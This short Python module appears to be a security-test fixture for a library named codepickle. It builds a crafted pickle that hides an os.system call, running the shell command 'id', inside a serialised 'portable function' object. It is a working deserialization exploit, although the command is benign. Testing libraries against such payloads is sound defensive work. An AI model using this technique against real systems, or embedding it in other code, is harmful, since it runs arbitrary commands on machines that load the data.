"""A portable function with the right runtime, whose payload calls os.system."""

import pickle

import codepickle

INSIDE = b"\x80\x04cos\nsystem\n\x8c\x02id\x85R."


def payload():
    sent = pickle.loads(pickle.dumps(codepickle.portable(len, pickle_by_reference=lambda obj: True), 4))
    sent._group._parts["payload"] = INSIDE
    return pickle.dumps(sent, 4)


PAYLOAD = payload()
